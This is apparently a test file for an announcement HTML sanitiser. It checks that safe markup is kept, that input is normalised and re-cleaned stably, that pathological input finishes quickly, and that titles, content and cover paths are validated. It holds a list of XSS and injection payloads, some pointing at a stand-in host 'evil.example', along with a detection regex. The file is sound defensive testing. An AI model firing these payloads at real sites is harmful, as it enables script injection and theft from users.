// Sanitising the HTML of announcements: allowed parts stay, nothing that could execute or load from elsewhere passes, and no input takes long.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { cleanMarkup, isEmptyMarkup } from './markup.ts'
import { isCover, readTexts } from './rules.ts'

test('texts, lists, tables, own pictures and links are kept', () => {
  for (const html of [
    '<h2>維護公告</h2><p>今晚 <b>02:00</b> 到 04:00<br />請見諒</p>',
    '<ul><li>一</li><li><i>二</i></li></ul><hr />',
    '<table><thead><tr><th>等級</th></tr></thead><tbody><tr><td>1 &lt; 2 &amp; 3</td></tr></tbody></table>',
    '<p><a href="/zh_tw/announcement">更多</a> <a href="https://example.com/a?b=1">外部</a></p>',
    '<img src="/art/covers/owl20.webp" alt="月夜" />',
  ])
    assert.equal(cleanMarkup(html), html)
})

test('other notations are normalised', () => {
  assert.equal(cleanMarkup('<div><strong>a</strong><em>b</em></div><h1>c</h1>'), '<p><b>a</b><i>b</i></p><h2>c</h2>')
  assert.equal(cleanMarkup('<p style="color:red" class="x" onclick="f()" id="a">x</p>'), '<p>x</p>')
})

// What an attacker with an editor's account would try.
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/art/../../api/v1/player/suspend">',
  '<img src="//evil.example/x.png">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=p><button>go</button></form>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<b/onmouseover=alert(1)>x</b>',
]

const leak =
  /<(?!\/?(?:p|br|hr|h[234]|ul|ol|li|b|i|u|s|blockquote|code|pre|table|thead|tbody|tr|th|td|a|img)[\s/>])|<[^>]*(?:\son\w+\s*=|javascript:|vbscript:|data:|style=|srcdoc|evil\.example)/i

test('known attacks leave no markup behind', () => {
  for (const attack of attacks) {
    const clean = cleanMarkup(attack)!
    assert.doesNotMatch(clean, leak, attack)
    assert.equal(cleanMarkup(clean), clean, `cleaning again changes nothing: ${attack}`)
  }
  for (const attack of attacks) assert.doesNotMatch(cleanMarkup(`<p>a</p><ul><li>${attack}</li></ul>`)!, leak, attack)
})

test('deep nesting, many attributes and long texts are processed fast', () => {
  // Processor time, which other processes on the machine do not change.
  const before = process.cpuUsage()
  assert.equal(cleanMarkup('<b>'.repeat(50_000)), null)
  const nested = cleanMarkup(`${'<b>'.repeat(30_000)}x`)!
  assert.ok(nested.length < 1000, `${nested.length} characters`)
  cleanMarkup(`<p ${'a="b" '.repeat(15_000)}>x</p>`)
  cleanMarkup('<'.repeat(90_000))
  cleanMarkup('&'.repeat(90_000))
  cleanMarkup('<a href="'.repeat(9_000))
  assert.ok(process.cpuUsage(before).user < 5_000_000)
})

test('a text without content, without a title or too long is refused by name', () => {
  const wrong = (title: string, content: string) => {
    const read = readTexts({ zh_tw: { title, content } })
    return 'wrong' in read ? read.wrong : null
  }
  assert.equal(wrong('公告', '<p>好</p>'), null)
  assert.equal(wrong(' <b></b>\u200B', '<p>好</p>'), 'Title')
  assert.equal(wrong('長'.repeat(61), '<p>好</p>'), 'Title')
  assert.equal(wrong('公告', '<p> &nbsp;</p><script>x</script>'), 'Content')
  assert.equal(wrong('公告', `<p>${'好'.repeat(20_000)}</p>`), 'Content')
  assert.deepEqual(readTexts({}), { wrong: 'NoText' })
  assert.ok(isEmptyMarkup('<p><br /></p>') && !isEmptyMarkup('<img src="/art/a.webp" alt="" />'))
  for (const cover of ['', 'covers/owl20', '/art/covers/x.webp', '/pictures/12/a.webp'])
    assert.ok(isCover(cover), cover)
  for (const cover of ['https://evil.example/x', '//evil.example/x', '/art/../x', 'covers/../x', 'javascript:1'])
    assert.ok(!isCover(cover), cover)
})
